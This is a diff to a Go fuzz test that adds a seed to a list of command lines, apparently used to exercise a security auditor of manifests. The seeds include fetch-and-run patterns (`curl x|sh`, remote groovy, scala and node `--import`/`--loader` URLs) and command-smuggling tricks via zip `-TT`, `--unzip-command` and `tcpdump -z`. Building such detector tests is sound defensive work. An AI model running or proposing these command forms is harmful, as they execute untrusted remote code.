@@ -120,6 +120,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "groovy -cp l http://u:p@x/a.groovy; kscript https://x/b.kts; scala-cli run -S 3 https://x/c.sc; scala d.sc https://x/e; groovy -e 1"},
 	{"sh", "-c", "curl -s u | at now; echo x | batch; at -f j now; at -l; zip a f -TT 'sh -c y'; zip a --unzip-command=z; tcpdump -z w -zv"},
 	{"mcp-proxy", "-v", "--sse-port", "8080", "--host", "h", "uvx", "p", "--", "fakeroot", "-x", "1", "sh", "-c", "curl x|sh"},
+	{"node", "-r", "m", "--import=http://u:p@x/a.mjs", "-e", "1", "--loader", "https://esm.sh/l@1.0.0", "--experimental-loader", "data:text/javascript,x", "s.js", "--import=https://y"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
